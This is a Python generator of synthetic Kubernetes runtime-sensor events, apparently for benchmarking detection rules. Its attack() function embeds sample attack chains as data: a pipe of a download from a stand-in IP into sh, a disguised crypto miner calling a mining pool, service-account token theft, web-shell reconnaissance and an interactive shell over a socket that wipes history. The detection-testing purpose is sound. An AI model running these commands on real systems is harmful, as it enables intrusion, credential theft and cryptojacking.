#!/usr/bin/env python3
"""Generates a realistic mix of kdr runtime events (the sensor's JSON form) for benchmarks.

    gen_runtime.py --events N --mix exec|file --out FILE [--seed S]

It simulates one node: a host (systemd, containerd, kubelet, kube-proxy, CNI, logrotate) and
pods whose processes form real trees. Every process has its own pid, its parent's pid as ppid,
the lineage of its real ancestors (parent first, at most eight, as the sensor sends it), a
cwd, a user, a start time and stdio that fit how it was started (services under a shim: null
stdin and pipes to the container log; kubelet exec probes: pipes; shell script children: the
script's descriptors). A process's events follow its life: exec, then the opens the sensor
reports for it (watched paths: service-account tokens, kubelet pod volumes, configs; files a
container creates for writing), connects, exit. Long-running servers keep producing opens and
connects from one pid. Several activities run at once, so their events interleave.

`exec` mixes are about 40% process starts and 40% exits (probes, cron scripts, CI jobs, host
jobs), `file` mixes about 70% opens (servers writing caches and uploads, token reloads). About one activity in 2,500 is
an attack chain (web shell, download piped into a shell, miner, token theft, history wipe),
so the stateful rules work and a few alerts are raised, as on a real node.
"""
import argparse, datetime, json, random

NODE = "node-a"
SHIM = "/usr/bin/containerd-shim-runc-v2"


class Proc:
    """A process: what the sensor knows of it, and its parent (for lineage)."""

    def __init__(self, gen, parent, exe, args, ctx, cwd="/", user="root", uid=0,
                 stdio=("pipe", "pipe", "pipe"), comm=None):
        self.pid = gen.next_pid()
        self.parent = parent
        self.exe, self.args, self.ctx, self.cwd = exe, list(args), ctx, cwd
        self.user, self.uid, self.stdio = user, uid, list(stdio)
        self.comm = comm or exe.rsplit("/", 1)[-1][:15]
        self.start = gen.t

    def lineage(self):
        out, p = [], self.parent
        while p is not None and len(out) < 8:
            out.append({"pid": p.pid, "exe": p.exe, "args": p.args})
            p = p.parent
        return out

    def json(self):
        return {"pid": self.pid, "tgid": self.pid, "ppid": self.parent.pid if self.parent else 0,
                "uid": self.uid, "gid": self.uid, "euid": self.uid, "comm": self.comm,
                "exe": self.exe, "args": self.args, "cwd": self.cwd,
                "startTime": stamp(self.start), "user": self.user, "stdio": self.stdio,
                "ancestors": self.lineage()}


def stamp(t):
    secs, nanos = divmod(t, 1_000_000_000)
    return datetime.datetime.fromtimestamp(secs, datetime.timezone.utc).strftime(
        "%Y-%m-%dT%H:%M:%S") + ".%09dZ" % nanos


class Node:
    def __init__(self, rnd):
        self.rnd = rnd
        self.t = 1_700_000_000_000_000_000
        self.pid = 2000
        self.seq = 0
        host = {"node": NODE}
        self.host = host
        self.systemd = Proc(self, None, "/lib/systemd/systemd", ["/sbin/init"], host)
        self.containerd = Proc(self, self.systemd, "/usr/bin/containerd", ["/usr/bin/containerd"], host)
        self.kubelet = Proc(self, self.systemd, "/usr/bin/kubelet",
                            ["/usr/bin/kubelet", "--config=/var/lib/kubelet/config.yaml",
                             "--kubeconfig=/etc/kubernetes/kubelet.conf",
                             "--container-runtime-endpoint=unix:///run/containerd/containerd.sock"], host)
        self.proxy = Proc(self, self.systemd, "/usr/local/bin/kube-proxy",
                          ["/usr/local/bin/kube-proxy", "--config=/var/lib/kube-proxy/config.conf"], host)
        self.cron = Proc(self, self.systemd, "/usr/sbin/cron", ["/usr/sbin/cron", "-f"], host)
        self.pods = []

    def next_pid(self):
        self.pid += 1
        if self.pid > 4_000_000:
            self.pid = 2000
        return self.pid

    def event(self, proc, action):
        self.seq += 1
        runtime = {"process": proc.json(), "cgroupId": proc.ctx.get("cgroup", 1),
                   "mntNs": proc.ctx.get("mnt", 4026531840), "action": action}
        ctx = {k: v for k, v in proc.ctx.items() if k not in ("cgroup", "mnt")}
        return {"id": "%s:b007:%d" % (NODE, self.seq), "time": stamp(self.t),
                "context": ctx, "payload": {"runtime": runtime}}


# Workloads: the main process of each pod kind and what it does.
WORKLOADS = {
    "web": ("/usr/sbin/nginx", ["nginx: master process nginx -g daemon off;"], "registry.test/shop/web:1.25"),
    "api": ("/usr/local/bin/node", ["node", "/app/server.js"], "registry.test/shop/api:3.2"),
    "py": ("/usr/local/bin/python3.11", ["/usr/local/bin/python3.11", "/usr/local/bin/gunicorn", "app:app", "-w", "4", "-b", "0.0.0.0:8000"], "registry.test/shop/py:2.0"),
    "java": ("/opt/java/openjdk/bin/java", ["java", "-XX:MaxRAMPercentage=75", "-jar", "/app/app.jar"], "registry.test/shop/orders:7.1"),
    "db": ("/usr/lib/postgresql/15/bin/postgres", ["postgres", "-D", "/var/lib/postgresql/data"], "registry.test/postgres:15"),
    "ci": ("/bin/bash", ["/bin/bash", "/builds/run-job.sh"], "registry.test/ci/runner:12"),
}

PROBES = {
    "web": ["/usr/bin/curl", "curl", "-fsS", "http://127.0.0.1/healthz"],
    "api": ["/bin/sh", "sh", "-c", "wget -q -O- http://localhost:3000/ready"],
    "py": ["/usr/local/bin/python3.11", "python3", "-c", "import urllib.request;urllib.request.urlopen('http://127.0.0.1:8000/health')"],
    "java": ["/bin/sh", "sh", "-c", "test -f /tmp/app-ready"],
    "db": ["/usr/lib/postgresql/15/bin/pg_isready", "pg_isready", "-U", "postgres", "-h", "127.0.0.1"],
    "ci": ["/bin/true", "true"],
}

SCRIPT_STEPS = [
    ["/bin/date", "date", "+%Y%m%d"], ["/bin/mkdir", "mkdir", "-p", "/tmp/work"],
    ["/usr/bin/find", "find", "/var/lib/app/cache", "-mtime", "+7", "-type", "f"],
    ["/bin/rm", "rm", "-f", "/tmp/work/old.tmp"], ["/bin/gzip", "gzip", "-9", "/var/log/app/app.log.1"],
    ["/bin/tar", "tar", "-czf", "/backup/data.tgz", "/var/lib/app/data"],
    ["/bin/sed", "sed", "-i", "s/^debug=.*/debug=false/", "/etc/app/app.conf"],
    ["/usr/bin/awk", "awk", "{print $1}", "/var/log/app/access.log"],
    ["/bin/grep", "grep", "-c", "ERROR", "/var/log/app/app.log"], ["/bin/cat", "cat", "/etc/app/version"],
    ["/usr/bin/git", "git", "rev-parse", "--short", "HEAD"], ["/usr/bin/sort", "sort", "-u"],
    ["/usr/bin/psql", "psql", "-h", "db", "-U", "app", "-c", "VACUUM ANALYZE"],
]
CI_STEPS = [
    ["/usr/bin/git", "git", "fetch", "--depth=1", "origin"], ["/usr/bin/make", "make", "-j2"],
    ["/usr/bin/cc", "cc", "-O2", "-c", "-o", "build/%s.o", "src/%s.c"],
    ["/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "cc1", "-quiet", "src/%s.c", "-O2", "-o", "/tmp/cc%s.s"],
    ["/usr/bin/as", "as", "--64", "-o", "build/%s.o", "/tmp/cc%s.s"],
    ["/usr/bin/ld", "ld", "-o", "build/app", "build/main.o", "build/%s.o"],
    ["/usr/bin/python3", "python3", "-m", "pytest", "-q", "tests/test_%s.py"],
]
HOST_JOBS = [
    (lambda n: n.proxy, ["/usr/sbin/iptables-save", "iptables-save", "-t", "nat"]),
    (lambda n: n.proxy, ["/usr/sbin/iptables-restore", "iptables-restore", "-w", "5", "--noflush", "--counters"]),
    (lambda n: n.kubelet, ["/opt/cni/bin/calico", "calico"]),
    (lambda n: n.kubelet, ["/usr/bin/umount", "umount", "/var/lib/kubelet/pods/%s/volumes/kubernetes.io~projected/kube-api-access"]),
    (lambda n: n.cron, ["/usr/sbin/logrotate", "logrotate", "/etc/logrotate.conf"]),
    (lambda n: n.systemd, ["/usr/lib/systemd/systemd-journald", "systemd-journald"]),
]
SERVICES = [("10.96.0.10", 53), ("10.96.12.4", 5432), ("10.96.33.9", 6379), ("10.96.40.2", 443),
            ("10.96.0.1", 443), ("10.96.87.15", 8080)]


TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"


def pod_files(pod, rnd):
    kind = pod["kind"]
    n = rnd.randint(0, 99999)
    return {
        "web": ["/var/cache/nginx/proxy_temp/%d/%02d/%010d" % (n % 10, n % 100, n), "/var/cache/nginx/client_temp/%010d" % n],
        "api": ["/app/uploads/%08x.bin" % n, "/tmp/session-%d.json" % n],
        "py": ["/tmp/wsgi-%d.tmp" % n, "/app/media/thumbs/%d.webp" % n],
        "java": ["/tmp/tomcat.%d.8080/work/%d.tmp" % (n % 7, n), "/app/logs/orders-%d.log" % (n % 30)],
        "db": ["/var/lib/postgresql/data/base/16384/%d" % (16000 + n % 900), "/var/lib/postgresql/data/pg_wal/%024X" % (n % 64)],
        "ci": ["/builds/ws/build/%d.o" % n, "/builds/ws/.cache/pip/%08x" % n],
    }[kind]


O_RDONLY, O_CREAT_WRITE = 0, 0o1101  # O_WRONLY|O_CREAT|O_TRUNC


def make_pods(node, rnd, kinds):
    pods = []
    for i in range(48):
        kind = kinds[i % len(kinds)]
        cid = "%064x" % rnd.getrandbits(256)
        exe, args, image = WORKLOADS[kind]
        ctx = {"node": NODE, "containerId": cid, "containerName": kind, "pod": "%s-%s" % (kind, cid[:5]),
               "namespace": "shop" if kind != "ci" else "ci", "image": image,
               "cgroup": 9000 + i, "mnt": 4026532000 + i}
        shim = Proc(node, node.containerd, SHIM, [SHIM, "-namespace", "k8s.io", "-id", cid[:12], "-address", "/run/containerd/containerd.sock"], node.host)
        user, uid = ("root", 0) if kind in ("web", "ci") else ("app", 1000 + i % 3)
        if kind == "db":
            user, uid = "postgres", 999
        main = Proc(node, shim, exe, args, ctx, cwd="/app" if kind in ("api", "py", "java") else "/",
                    user=user, uid=uid, stdio=("file", "pipe", "pipe"))
        workers = [main]
        if kind == "web":
            workers = [Proc(node, main, exe, ["nginx: worker process"], ctx, user="nginx", uid=101,
                            stdio=("file", "pipe", "pipe")) for _ in range(2)]
        if kind == "py":
            workers = [Proc(node, main, exe, args, ctx, cwd="/app", user=user, uid=uid,
                            stdio=("file", "pipe", "pipe")) for _ in range(4)]
        pods.append({"kind": kind, "ctx": ctx, "shim": shim, "main": main, "workers": workers,
                     "user": user, "uid": uid})
    return pods


def lifecycle(node, rnd, proc, opens=(), connects=(), code=0):
    """exec, the opens and connects of the process, exit."""
    evs = [(proc, {"type": "exec"})]
    for path, flags in opens:
        evs.append((proc, {"type": "open", "path": path, "flags": flags, "result": 3}))
    for addr, port in connects:
        evs.append((proc, {"type": "connect", "remote": {"family": "inet", "address": addr, "port": port},
                           "local": {"family": "inet", "address": "10.244.1.%d" % rnd.randint(2, 250), "port": rnd.randint(32768, 60999)},
                           "result": 0}))
    evs.append((proc, {"type": "exit", "code": code}))
    return evs


def probe(node, rnd, pod):
    cmd = PROBES[pod["kind"]]
    # kubelet exec probes start under the pod's shim with pipes on every descriptor.
    p = Proc(node, pod["shim"], cmd[0], cmd[1:], pod["ctx"], cwd=pod["main"].cwd, user=pod["user"], uid=pod["uid"])
    evs = [(p, {"type": "exec"})]
    if cmd[1] == "sh":
        inner = cmd[3].split()
        exe = "/usr/bin/" + inner[0] if inner[0] != "test" else "/usr/bin/test"
        c = Proc(node, p, exe, inner, pod["ctx"], cwd=p.cwd, user=p.user, uid=p.uid)
        evs += lifecycle(node, rnd, c, connects=[("127.0.0.1", 3000)] if inner[0] == "wget" else ())
    evs.append((p, {"type": "exit", "code": 0}))
    return evs


def script(node, rnd, pod, steps, n_steps, name):
    sh = Proc(node, pod["shim"], "/bin/sh", ["/bin/sh", name], pod["ctx"], cwd="/", user=pod["user"],
              uid=pod["uid"], stdio=("file", "pipe", "pipe"))
    evs = [(sh, {"type": "exec"})]
    unique = "%x" % rnd.getrandbits(24)
    for step in rnd.sample(steps, min(n_steps, len(steps))):
        args = [a.replace("%s", unique) for a in step[1:]]
        c = Proc(node, sh, step[0], args, pod["ctx"], cwd="/", user=sh.user, uid=sh.uid, stdio=sh.stdio)
        opens = [(pod_files(pod, rnd)[0], O_CREAT_WRITE)] if rnd.random() < 0.3 else []
        conns = [rnd.choice(SERVICES)] if step[1] in ("psql", "git") else []
        evs += lifecycle(node, rnd, c, opens, conns)
    evs.append((sh, {"type": "exit", "code": 0}))
    return evs


def serve(node, rnd, pod, n):
    """A long-running server's work: files it creates, tokens it reloads, services it calls."""
    w = rnd.choice(pod["workers"])
    evs = []
    for _ in range(n):
        r = rnd.random()
        if r < 0.75:
            evs.append((w, {"type": "open", "path": rnd.choice(pod_files(pod, rnd)), "flags": O_CREAT_WRITE, "result": 3 + rnd.randint(0, 40)}))
        elif r < 0.85:
            evs.append((w, {"type": "open", "path": TOKEN, "flags": O_RDONLY, "result": 7}))
        else:
            addr, port = rnd.choice(SERVICES)
            evs.append((w, {"type": "connect", "remote": {"family": "inet", "address": addr, "port": port},
                            "local": {"family": "inet", "address": "10.244.1.%d" % rnd.randint(2, 250), "port": rnd.randint(32768, 60999)}, "result": 0}))
    return evs


def host_job(node, rnd):
    parent_of, cmd = rnd.choice(HOST_JOBS)
    args = [a.replace("%s", "%08x" % rnd.getrandbits(32)) for a in cmd[1:]]
    p = Proc(node, parent_of(node), cmd[0], args, node.host, stdio=("file", "pipe", "pipe"))
    if cmd[1] == "logrotate":
        evs = lifecycle(node, rnd, p)
        exit_ev = evs.pop()
        for f in ("/var/log/syslog", "/var/log/kern.log", "/var/log/containers/app.log"):
            evs.append((p, {"type": "rename", "from": f, "to": f + ".1"}))
        return evs + [exit_ev]
    return lifecycle(node, rnd, p)


def kubelet_reads(node, rnd, n):
    evs = []
    for _ in range(n):
        path = rnd.choice(["/etc/kubernetes/kubelet.conf", "/var/lib/kubelet/pki/kubelet-client-current.pem",
                           "/var/lib/kubelet/pods/%08x/volumes/kubernetes.io~projected/kube-api-access/token" % rnd.getrandbits(32)])
        evs.append((node.kubelet, {"type": "open", "path": path, "flags": O_RDONLY, "result": 12}))
    return evs


def attack(node, rnd, pods):
    """One short attack chain inside a pod (or on the host), with real lineage."""
    web = [p for p in pods if p["kind"] in ("web", "py", "api", "java")]
    pod = rnd.choice(web)
    w = rnd.choice(pod["workers"])
    ctx = pod["ctx"]
    kind = rnd.choice(["webshell", "curl_sh", "miner", "token", "history"])
    if kind == "webshell":
        sh = Proc(node, w, "/bin/sh", ["sh", "-c", "id; uname -a; cat /etc/passwd"], ctx, cwd=w.cwd, user=w.user, uid=w.uid)
        evs = [(sh, {"type": "exec"})]
        for cmd in (["/usr/bin/id", "id"], ["/bin/uname", "uname", "-a"], ["/bin/cat", "cat", "/etc/passwd"]):
            evs += lifecycle(node, rnd, Proc(node, sh, cmd[0], cmd[1:], ctx, cwd=w.cwd, user=w.user, uid=w.uid))
        return evs + [(sh, {"type": "exit", "code": 0})]
    if kind == "curl_sh":
        sh = Proc(node, w, "/bin/sh", ["sh", "-c", "curl -s http://198.51.100.7/i.sh | sh"], ctx, cwd="/tmp", user=w.user, uid=w.uid)
        curl = Proc(node, sh, "/usr/bin/curl", ["curl", "-s", "http://198.51.100.7/i.sh"], ctx, cwd="/tmp", user=w.user, uid=w.uid, stdio=("pipe", "pipe", "pipe"))
        sh2 = Proc(node, sh, "/bin/sh", ["sh"], ctx, cwd="/tmp", user=w.user, uid=w.uid, stdio=("pipe", "pipe", "pipe"))
        return ([(sh, {"type": "exec"})] + lifecycle(node, rnd, curl, connects=[("198.51.100.7", 80)])
                + lifecycle(node, rnd, sh2) + [(sh, {"type": "exit", "code": 0})])
    if kind == "miner":
        sh = Proc(node, w, "/bin/sh", ["sh", "-c", "/tmp/.x/kworkerd -o stratum+tcp://198.51.100.9:3333 -u 4Awallet -a rx/0"], ctx, cwd="/tmp", user=w.user, uid=w.uid)
        m = Proc(node, sh, "/tmp/.x/kworkerd", ["/tmp/.x/kworkerd", "-o", "stratum+tcp://198.51.100.9:3333", "-u", "4Awallet", "-a", "rx/0"], ctx, cwd="/tmp", user=w.user, uid=w.uid)
        return [(sh, {"type": "exec"})] + lifecycle(node, rnd, m, connects=[("198.51.100.9", 3333)]) + [(sh, {"type": "exit", "code": 0})]
    if kind == "token":
        sh = Proc(node, w, "/bin/sh", ["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"], ctx, cwd=w.cwd, user=w.user, uid=w.uid)
        cat = Proc(node, sh, "/bin/cat", ["cat", TOKEN], ctx, cwd=w.cwd, user=w.user, uid=w.uid)
        return [(sh, {"type": "exec"})] + lifecycle(node, rnd, cat, opens=[(TOKEN, O_RDONLY)]) + [(sh, {"type": "exit", "code": 0})]
    sh = Proc(node, w, "/bin/bash", ["bash", "-i"], ctx, cwd="/root", user="root", uid=0, stdio=("socket", "socket", "socket"))
    return lifecycle(node, rnd, sh, opens=[("/root/.bash_history", O_CREAT_WRITE)])


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--events", type=int, default=200000)
    ap.add_argument("--mix", choices=["exec", "file"], default="exec")
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=7)
    a = ap.parse_args()
    rnd = random.Random(a.seed)
    node = Node(rnd)
    kinds = ["web", "api", "py", "java", "db", "ci"]
    pods = make_pods(node, rnd, kinds)
    # Activity weights per mix: (what, weight).
    if a.mix == "exec":
        weights = [("probe", 30), ("script", 9), ("ci", 9), ("host", 12), ("serve", 3), ("kubelet", 2)]
    else:
        weights = [("probe", 6), ("script", 2), ("ci", 1), ("host", 3), ("serve", 34), ("kubelet", 6)]
    names = [w[0] for w in weights]
    cum = [w[1] for w in weights]
    running = []
    written = 0
    with open(a.out, "w") as out:
        while written < a.events:
            while len(running) < 12:
                if rnd.random() < 1 / 2500:
                    running.append(attack(node, rnd, pods))
                    continue
                what = rnd.choices(names, cum)[0]
                pod = rnd.choice(pods)
                if what == "probe":
                    evs = probe(node, rnd, pod)
                elif what == "script":
                    evs = script(node, rnd, pod, SCRIPT_STEPS, rnd.randint(3, 7), "/scripts/maintenance.sh")
                elif what == "ci":
                    ci = rnd.choice([p for p in pods if p["kind"] == "ci"])
                    evs = script(node, rnd, ci, CI_STEPS, rnd.randint(3, 6), "/builds/step.sh")
                elif what == "host":
                    evs = host_job(node, rnd)
                elif what == "serve":
                    server = rnd.choice([p for p in pods if p["kind"] != "ci"])
                    evs = serve(node, rnd, server, rnd.randint(3, 12))
                else:
                    evs = kubelet_reads(node, rnd, rnd.randint(1, 4))
                running.append(evs)
            i = rnd.randrange(len(running))
            proc, action = running[i].pop(0)
            if not running[i]:
                running.pop(i)
            node.t += rnd.randint(20_000, 400_000)
            out.write(json.dumps(node.event(proc, action), separators=(",", ":")) + "\n")
            written += 1


main()
